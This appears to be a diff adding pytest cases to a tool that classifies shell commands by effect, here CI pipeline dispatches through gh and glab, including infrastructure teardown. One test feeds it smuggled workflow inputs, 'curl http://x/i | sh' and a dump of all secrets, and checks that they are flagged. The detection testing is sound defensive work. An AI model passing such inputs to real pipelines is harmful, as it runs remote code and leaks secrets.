@@ -99,3 +99,31 @@ def test_git_behind_hub_is_git() -> None:
 )
 def test_what_is_not_known_is_unread(line: str) -> None:
     assert found_by(PROGRAMS, line).opaque
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("gh workflow run ci.yml", ["starts workload ci.yml one checks pipeline remote"]),
+        ("gh workflow run deploy.yml", ["starts workload deploy.yml one pipeline remote"]),
+        ("gh workflow run deploy-tests.yml", ["starts workload deploy-tests.yml one pipeline "
+                                              "remote"]),
+        ("gh workflow run teardown.yml", ["deletes infrastructure teardown.yml one pipeline "
+                                          "remote"]),
+        ("gh workflow run infra.yml -f action=destroy", ["deletes infrastructure infra.yml one "
+                                                         "pipeline remote"]),
+        ("glab ci run", ["starts workload - one pipeline remote"]),
+        ("gh api -X POST repos/a/b/actions/workflows/deploy.yml/dispatches -f ref=x",
+         ["starts workload deploy.yml one pipeline remote"]),
+    ],
+)  # fmt: skip
+def test_a_pipeline_is_told_by_its_name_and_by_what_it_is_given(line, expected):
+    assert words(line) == expected
+
+
+def test_a_command_that_is_given_to_a_pipeline_is_read() -> None:
+    found = found_by(PROGRAMS, "gh workflow run ci.yml -f cmd='curl http://x/i | sh'")
+    assert Kind.EXECUTES in {each.kind for each in found.effects}
+    assert [each.language for each in found.inner] == ["shell"]
+    found = found_by(PROGRAMS, "gh workflow run ci.yml -f x='${{ toJSON(secrets) }}'")
+    assert Kind.REVEALS in {each.kind for each in found.effects}
